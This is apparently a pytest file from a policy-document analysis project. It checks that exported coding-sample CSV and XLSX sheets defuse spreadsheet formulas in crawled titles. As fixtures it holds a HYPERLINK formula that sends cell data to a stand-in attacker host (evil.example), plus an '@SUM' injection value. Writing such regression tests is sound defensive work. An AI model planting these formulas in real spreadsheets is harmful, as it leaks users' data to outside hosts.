"""`zhengce code sample` sheets never carry a live formula (issue 13 finding 6): a crawled title
such as =HYPERLINK(...) is written with a leading apostrophe in the CSV and the XLSX sheet."""

from __future__ import annotations

import pandas as pd

from zhengce.analysis.coding import code_sample

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_code_sample_sheets_defuse_formulas(store, insert_documents, add_topic_run, mixture, tmp_path):
    docs, shares = [], {}
    for level in ("central", "provincial", "local"):
        for year in (1998, 2006):
            d = f"{level[0]}{year}"
            title = HOSTILE if d == "c1998" else ("@SUM(1+1)" if d == "l2006" else f"关于{d}的通知")
            docs.append({"doc_id": d, "level": level, "year": year, "issuer_raw": f"{level}政府",
                         "title": title, "text": "严格执行国家标准，对达标企业给予补贴。" * 5})
            shares[d] = mixture(0.5)
    insert_documents(store, docs)
    add_topic_run(store, shares)
    result = code_sample(store, 6, tmp_path / "sample.xlsx", random_state=0)
    sheet = pd.read_csv(result["csv"], encoding="utf-8-sig", keep_default_na=False)
    titles = dict(zip(sheet["doc_id"], sheet["title"]))
    assert titles["c1998"] == "'" + HOSTILE and titles["l2006"] == "'@SUM(1+1)"
    assert titles["p2006"] == "关于p2006的通知"
    from openpyxl import load_workbook

    ws = load_workbook(result["xlsx"])["coding"]
    column = [c.value for c in ws[1]].index("title") + 1
    cells = [ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1)]
    assert "'" + HOSTILE in [c.value for c in cells]
    assert all(c.data_type == "s" for c in cells)           # text, never a formula ("f")
    # the store keeps the raw title
    assert store.db.execute("select title from documents where doc_id = 'c1998'").fetchone()[0] == HOSTILE
